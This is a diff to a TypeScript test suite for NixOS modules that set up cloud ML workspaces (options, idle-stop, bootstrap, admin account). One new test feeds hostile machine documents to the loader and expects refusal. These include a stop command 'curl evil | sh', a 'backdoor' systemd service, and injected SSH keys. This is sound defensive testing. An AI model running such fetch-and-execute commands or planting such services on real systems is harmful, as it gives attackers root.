@@ -30,9 +30,10 @@ const WORKSPACE_MODULE = path.join(NIX_DIR, 'modules', 'workspace.nix');
 const EXPECTED_WORKSPACE_PATHS = [
   'mlWorkspace.workspace.enable',
   'mlWorkspace.workspace.domain',
+  'mlWorkspace.workspace.url',
   'mlWorkspace.workspace.user',
   'mlWorkspace.workspace.ide.package',
-  'mlWorkspace.workspace.ide.port',
+  'mlWorkspace.workspace.ide.allowInstanceMetadata',
   'mlWorkspace.workspace.ide.connectionTokenFile',
   'mlWorkspace.workspace.home.device',
   'mlWorkspace.workspace.home.fsType',
@@ -50,7 +51,7 @@ const EXPECTED_WORKSPACE_PATHS = [
   'mlWorkspace.workspace.oauth2Proxy.allowedEmails',
   'mlWorkspace.workspace.oauth2Proxy.allowedEmailDomains',
   'mlWorkspace.workspace.gpu.enable',
-  'mlWorkspace.workspace.docker.enable',
+  'mlWorkspace.workspace.containers',
   'mlWorkspace.workspace.extraPackages',
   'mlWorkspace.workspace.admin.user',
   'mlWorkspace.workspace.admin.authorizedKeys',
@@ -59,6 +60,7 @@ const EXPECTED_WORKSPACE_PATHS = [
 const EXPECTED_SECRETS_PATHS = [
   'mlWorkspace.secrets.enable',
   'mlWorkspace.secrets.provider',
+  'mlWorkspace.secrets.refreshInterval',
   'mlWorkspace.secrets.directory',
   'mlWorkspace.secrets.secrets',
   'mlWorkspace.secrets.secrets.<name>.source',
@@ -86,8 +88,8 @@ function writeTempJson(content: unknown): string {
 }
 
 /** Evaluates machine-configuration.nix for a document on disk, with a stub modules directory. */
-const MACHINE_CONFIGURATION_EXPR = `{ file, machineJson, modulesPath }:
-  let module = import file { inherit machineJson modulesPath; };
+const MACHINE_CONFIGURATION_EXPR = `{ file, machineJson, modulesPath, cloud ? null }:
+  let module = import file { inherit machineJson modulesPath cloud; };
   in { inherit (module) imports config; }`;
 
 function machineConfigurationArgs(machineJson: string): string[] {
@@ -135,6 +137,7 @@ const IDLE_STOP_EXPR = `{ helper, module, settings }:
     timerWantedBy = m.value (timer ++ [ "wantedBy" ]);
     timerConfig = m.value (timer ++ [ "timerConfig" ]);
     serviceConfig = m.value (service ++ [ "serviceConfig" ]);
+    script = m.value (service ++ [ "script" ]);
     inherit (m) failedAssertions warnings;
   }`;
 
@@ -145,6 +148,7 @@ interface IdleStopConfig {
   readonly timerWantedBy: string[];
   readonly timerConfig: Record<string, string>;
   readonly serviceConfig: Record<string, string>;
+  readonly script: string;
   readonly failedAssertions: string[];
   readonly warnings: string[];
 }
@@ -217,7 +221,8 @@ describe('declared NixOS options (nix/tests/option-paths.nix)', () => {
     expect(defaults).toMatchObject({
       'mlWorkspace.workspace.enable': false,
       'mlWorkspace.workspace.user': 'workspace',
-      'mlWorkspace.workspace.ide.port': 3000,
+      'mlWorkspace.workspace.url': null,
+      'mlWorkspace.workspace.ide.allowInstanceMetadata': false,
       'mlWorkspace.workspace.ide.connectionTokenFile': null,
       'mlWorkspace.workspace.home.device': null,
       'mlWorkspace.workspace.home.fsType': 'ext4',
@@ -229,10 +234,11 @@ describe('declared NixOS options (nix/tests/option-paths.nix)', () => {
       'mlWorkspace.workspace.oauth2Proxy.allowedEmails': [],
       'mlWorkspace.workspace.oauth2Proxy.allowedEmailDomains': [],
       'mlWorkspace.workspace.gpu.enable': false,
-      'mlWorkspace.workspace.docker.enable': true,
+      'mlWorkspace.workspace.containers': 'podman',
       'mlWorkspace.workspace.extraPackages': [],
       'mlWorkspace.secrets.enable': false,
       'mlWorkspace.secrets.directory': '/run/ml-workspace/secrets',
+      'mlWorkspace.secrets.refreshInterval': '1h',
       'mlWorkspace.secrets.secrets': {},
       'mlWorkspace.secrets.secrets.<name>.owner': 'root',
       'mlWorkspace.secrets.secrets.<name>.group': 'root',
@@ -258,7 +264,9 @@ describe('declared NixOS options (nix/tests/option-paths.nix)', () => {
 
   test('match concrete attribute names against <name>', () => {
     expect(isDeclaredOptionPath('mlWorkspace.secrets.secrets.connection-token.source')).toBe(true);
-    expect(isDeclaredOptionPath('mlWorkspace.workspace.ide.port')).toBe(true);
+    expect(isDeclaredOptionPath('mlWorkspace.workspace.ide.allowInstanceMetadata')).toBe(true);
+    // Gone: the IDE listens on a Unix socket only nginx and the workspace user can open.
+    expect(isDeclaredOptionPath('mlWorkspace.workspace.ide.port')).toBe(false);
     expect(isDeclaredOptionPath('mlWorkspace.workspace.ide.host')).toBe(false);
     expect(isDeclaredOptionPath('mlWorkspace.secrets.secrets.connection-token.path')).toBe(false);
     expect(isDeclaredOptionPath('mlWorkspace.idleStop.idleMinutes')).toBe(true);
@@ -292,7 +300,7 @@ describe('nix/modules/idle-stop.nix (config evaluated with the stub lib)', () =>
   });
 
   test('checks every minute from five minutes after boot, with a oneshot service', () => {
-    const { timerWantedBy, timerConfig, serviceConfig } = idleStopConfig({ enable: true, cloud: 'gcp' });
+    const { timerWantedBy, timerConfig, serviceConfig, script } = idleStopConfig({ enable: true, cloud: 'gcp' });
 
     expect(timerWantedBy).toEqual(['timers.target']);
     expect(timerConfig).toMatchObject({ OnBootSec: '5min', OnUnitActiveSec: '1min' });
@@ -301,17 +309,19 @@ describe('nix/modules/idle-stop.nix (config evaluated with the stub lib)', () =>
       RuntimeDirectory: 'ml-workspace/idle-stop',
       RuntimeDirectoryPreserve: 'yes',
     });
-    expect(serviceConfig.ExecStart).toMatch(/\/bin\/ml-workspace-idle-stop$/);
+    // The check is the unit's script (run below, in the idle-stop behaviour tests).
+    expect(script).toMatch(/^set -euo pipefail\nstate_dir=\$\{RUNTIME_DIRECTORY:-\/run\/ml-workspace\/idle-stop\}\n/);
+    expect(script).toContain("stop_command='systemctl poweroff'");
   });
 
-  test('asserts idleMinutes of at least 5, naming the full option path', () => {
-    expect(idleStopConfig({ enable: true, cloud: 'gcp' }).failedAssertions).toEqual([]);
-    expect(idleStopConfig({ enable: true, cloud: 'gcp', idleMinutes: 5 }).failedAssertions).toEqual([]);
-
-    const { failedAssertions } = idleStopConfig({ enable: true, cloud: 'gcp', idleMinutes: 4 });
-
-    expect(failedAssertions).toHaveLength(1);
-    expect(failedAssertions[0]).toMatch(/^mlWorkspace\.idleStop\.idleMinutes must be at least 5, got 4;/);
+  test('takes idleMinutes from 5 to 1440, the bound GpuWorkspace.idleStopMinutes has', () => {
+    expect(idleStopConfig({ enable: true, cloud: 'gcp', idleMinutes: 5 }).options.idleMinutes).toBe(5);
+    expect(idleStopConfig({ enable: true, cloud: 'gcp', idleMinutes: 1440 }).options.idleMinutes).toBe(1440);
+    for (const minutes of [4, 1441]) {
+      expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', idleMinutes: minutes }))).toMatch(
+        new RegExp(`The option \`mlWorkspace\\.idleStop\\.idleMinutes' is not of type \`integer between 5 and 1440 \\(both inclusive\\)'\\. Definition values:\\n\\s*- In \`values': ${minutes}`),
+      );
+    }
   });
 
   test('defines nothing when disabled', () => {
@@ -321,16 +331,16 @@ describe('nix/modules/idle-stop.nix (config evaluated with the stub lib)', () =>
 
   test('rejects values outside the option types', () => {
     expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', cpuLoadPerCore: 0 }))).toMatch(
-      /mlWorkspace\.idleStop\.cpuLoadPerCore = 0 is not a valid numberPositive/,
+      /The option `mlWorkspace\.idleStop\.cpuLoadPerCore' is not of type `integer or floating point number between 0\.01 and 64 \(both inclusive\)'/,
     );
     expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', gpuUtilizationPercent: 101 }))).toMatch(
-      /mlWorkspace\.idleStop\.gpuUtilizationPercent = 101 is not a valid intBetween/,
+      /The option `mlWorkspace\.idleStop\.gpuUtilizationPercent' is not of type `integer between 0 and 100 \(both inclusive\)'/,
     );
     expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', maxRuntimeHours: 0 }))).toMatch(
-      /mlWorkspace\.idleStop\.maxRuntimeHours = 0 is not a valid nullOr/,
+      /The option `mlWorkspace\.idleStop\.maxRuntimeHours' is not of type `nullOr'/,
     );
     expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'openstack' }))).toMatch(
-      /mlWorkspace\.idleStop\.cloud = "openstack" is not a valid enum/,
+      /The option `mlWorkspace\.idleStop\.cloud' is not of type `one of "gcp", "aws", "azure"'/,
     );
   });
 
@@ -361,7 +371,6 @@ describe('nix/lib/machine-configuration.nix', () => {
         ide: { connectionTokenFile: '/run/ml-workspace/secrets/connection-token' },
         tls: { acme: { email: 'platform@example.com' } },
         home: { device: '/dev/disk/by-id/google-home' },
-        extraPackages: [],
       },
       secrets: {
         enable: true,
@@ -405,6 +414,77 @@ describe('nix/lib/machine-configuration.nix', () => {
     const error = nixEvalError(MACHINE_CONFIGURATION_EXPR, machineConfigurationArgs(machineJson));
 
     expect(error).toMatch(/schemaVersion null is not supported/);
+  });
+
+  // Whoever can write instance metadata writes the document; it must not become root's
+  // configuration beyond the settings the constructs render.
+  const withConfig = (extra: Record<string, unknown>) => ({
+    ...config,
+    ...extra,
+    mlWorkspace: { ...config.mlWorkspace, ...((extra.mlWorkspace as object) ?? {}) },
+  });
+  it.each<[string, Record<string, unknown>, string]>([
+    [
+      'a stop command (run as root by the idle check)',
+      withConfig({ mlWorkspace: { idleStop: { enable: true, cloud: 'gcp', stopCommand: 'curl evil | sh' } } }),
+      'config.mlWorkspace.idleStop.stopCommand is not a setting a machine document may hold',
+    ],
+    [
+      'any other NixOS option',
+      withConfig({ systemd: { services: { backdoor: { script: 'id' } } } }),
+      'config.systemd is not a setting a machine document may hold',
+    ],
+    [
+      'a package',
+      withConfig({ mlWorkspace: { workspace: { ...config.mlWorkspace.workspace, extraPackages: ['/nix/store/x'] } } }),
+      'config.mlWorkspace.workspace.extraPackages is not a setting a machine document may hold',
+    ],
+    [
+      'an mkOverride written as JSON',
+      withConfig({ networking: { hostName: { _type: 'override', priority: 10, content: 'x' } } }),
+      'config.networking.hostName must be a JSON string, number, boolean, null or list of those',
+    ],
+    [
+      'an mkIf around a set',
+      withConfig({ mlWorkspace: { _type: 'if', condition: true, content: {} } }),
+      'config.mlWorkspace._type is not a setting a machine document may hold',
+    ],
+    [
+      'an SSH login on a cloud other than Azure',
+      withConfig({ mlWorkspace: { workspace: { ...config.mlWorkspace.workspace, admin: { user: 'eve', authorizedKeys: ['ssh-ed25519 AAAA eve'] } } } }),
+      'config.mlWorkspace.workspace.admin is not a setting a machine document may hold',
+    ],
+    [
+      'a secret with a mode of its own',
+      withConfig({ mlWorkspace: { secrets: { enable: true, provider: 'gcp', secrets: { 'connection-token': { source: 'projects/p/secrets/t', mode: '0444' } } } } }),
+      'config.mlWorkspace.secrets.secrets.connection-token.mode is not a setting a machine document may hold',
+    ],
+  ])('refuses %s, naming the setting', (_what, badConfig, message) => {
+    const machineJson = writeTempJson({
+      schemaVersion: 1,
+      nixpkgs: { owner: 'NixOS', repo: 'nixpkgs', rev: NIXPKGS_REV, narHash: NIXPKGS_NAR_HASH },
+      config: badConfig,
+    });
+
+    const error = nixEvalError(MACHINE_CONFIGURATION_EXPR, [...machineConfigurationArgs(machineJson), '--argstr', 'cloud', 'gcp']);
+
+    expect(error).toContain(`machine document ${machineJson}: refusing the document: ${message}`);
+    expect(error).toContain('so that writing instance metadata does not give root on the machine');
+  });
+
+  test('accepts the break-glass admin on Azure, where Bastion needs it', () => {
+    const azure = withConfig({
+      mlWorkspace: { workspace: { ...config.mlWorkspace.workspace, admin: { user: 'azureuser', authorizedKeys: ['ssh-ed25519 AAAA admin'] } } },
+    });
+    const machineJson = writeTempJson({
+      schemaVersion: 1,
+      nixpkgs: { owner: 'NixOS', repo: 'nixpkgs', rev: NIXPKGS_REV, narHash: NIXPKGS_NAR_HASH },
+      config: azure,
+    });
+
+    const module = nixEvalExpr<{ config: any }>(MACHINE_CONFIGURATION_EXPR, [...machineConfigurationArgs(machineJson), '--argstr', 'cloud', 'azure']);
+
+    expect(module.config.mlWorkspace.workspace.admin).toEqual({ user: 'azureuser', authorizedKeys: ['ssh-ed25519 AAAA admin'] });
   });
 });
 
@@ -470,12 +550,12 @@ describe('nix/flake.nix and nix/flake.lock', () => {
  * What bootstrap.nix sets per cloud, evaluated with the stub lib (nix/tests/module-config.nix).
  * `options` stands for the image profile's declarations the module tests for.
  */
-const BOOTSTRAP_EXPR = `{ helper, module, cloud, options }:
+const BOOTSTRAP_EXPR = `{ helper, module, cloud, profile }:
   let
     m = import helper {
       inherit module;
       values.mlWorkspace.bootstrap = { enable = true; inherit cloud; };
-      options = builtins.fromJSON options;
+      imports = if profile == "" then [ ] else [ (/. + profile) ];
     };
     at = path: if m.defines path then m.value path else null;
   in {
@@ -487,28 +567,33 @@ const BOOTSTRAP_EXPR = `{ helper, module, cloud, options }:
   }`;
 
 describe('mlWorkspace.bootstrap per cloud (nix/modules/bootstrap.nix)', () => {
-  const PROFILE_OPTIONS = { virtualisation: { 'googleComputeImage': { efi: {} }, 'azureImage': { vmGeneration: {} }, 'amazon-init': { enable: {} } } };
-  const bootstrap = (cloud: string, options: object = PROFILE_OPTIONS) =>
+  // The models of the image profiles the bootstrap's configuration imports on each cloud.
+  const PROFILES: Record<string, string> = {
+    gcp: 'google-compute-image.nix',
+    aws: 'amazon-image.nix',
+    azure: 'azure-image.nix',
+  };
+  const bootstrap = (cloud: string, withProfile = true) =>
     nixEvalExpr<Record<string, unknown>>(BOOTSTRAP_EXPR, [
       '--argstr', 'helper', MODULE_CONFIG,
       '--argstr', 'module', BOOTSTRAP_MODULE,
       '--argstr', 'cloud', cloud,
-      '--argstr', 'options', JSON.stringify(options),
+      '--argstr', 'profile', withProfile ? path.join(NIX_DIR, 'tests', 'nixpkgs', 'virtualisation', PROFILES[cloud]) : '',
     ]);
 
   test.each([
     // GCP: UEFI kept across rebuilds (Shielded VM); AWS: the Session Manager agent, since no
-    // SSH port is open; Azure: Generation 2 kept across rebuilds. amazon-init never runs our
-    // JSON document as a configuration.
-    ['gcp', { ssmAgent: null, gceEfi: true, azureGeneration: null, amazonInit: false, service: true }],
+    // SSH port is open; Azure: Generation 2 kept across rebuilds. amazon-init (only in the
+    // Amazon profile) never runs our JSON document as a configuration.
+    ['gcp', { ssmAgent: null, gceEfi: true, azureGeneration: null, amazonInit: null, service: true }],
     ['aws', { ssmAgent: true, gceEfi: null, azureGeneration: null, amazonInit: false, service: true }],
-    ['azure', { ssmAgent: null, gceEfi: null, azureGeneration: 'v2', amazonInit: false, service: true }],
+    ['azure', { ssmAgent: null, gceEfi: null, azureGeneration: 'v2', amazonInit: null, service: true }],
   ])('on %s', (cloud, expected) => {
     expect(bootstrap(cloud)).toEqual(expected);
   });
 
   test('outside an image profile it sets no profile option (they would not exist)', () => {
-    expect(bootstrap('azure', {})).toEqual({ ssmAgent: null, gceEfi: null, azureGeneration: null, amazonInit: null, service: true });
+    expect(bootstrap('azure', false)).toEqual({ ssmAgent: null, gceEfi: null, azureGeneration: null, amazonInit: null, service: true });
   });
 });
 
@@ -543,7 +628,7 @@ describe('mlWorkspace.workspace.admin (nix/modules/workspace.nix)', () => {
     expect(result.account).toMatchObject({
       isNormalUser: true,
       extraGroups: ['wheel'],
-      hashedPassword: { _type: 'override', content: '!' },
+      hashedPassword: '!',
       openssh: { authorizedKeys: { keys: ['ssh-ed25519 AAAAC3Nza admin'] } },
     });
     expect(result.sudo).toEqual([{ users: ['azureuser'], commands: [{ command: 'ALL', options: ['NOPASSWD'] }] }]);
@@ -552,10 +637,18 @@ describe('mlWorkspace.workspace.admin (nix/modules/workspace.nix)', () => {
   test('is refused without a key, since the account has no password', () => {
     expect(admin({ user: 'azureuser' }).failedAssertions).toEqual([
       'mlWorkspace.workspace.admin.authorizedKeys must list at least one SSH public key for mlWorkspace.workspace.admin.user "azureuser"; the account has no password.',
+      // A wheel account without a key does not pass NixOS's lock-out check either.
+      expect.stringMatching(/^Neither the root account nor any wheel user has a password or SSH authorized key\./),
     ]);
   });
 
-  test('declares nothing by default', () => {
-    expect(admin({})).toEqual({ defined: false, account: null, sudo: null, failedAssertions: [] });
+  test('declares nothing by default, and then NixOS\'s lock-out check needs another way in', () => {
+    expect(admin({})).toEqual({
+      defined: false,
+      account: null,
+      sudo: null,
+      // Met on a real machine by OS Login (GCP) or users.allowNoPasswordLogin (AWS, the bootstrap).
+      failedAssertions: [expect.stringMatching(/^Neither the root account nor any wheel user has a password or SSH authorized key\./)],
+    });
   });
 });
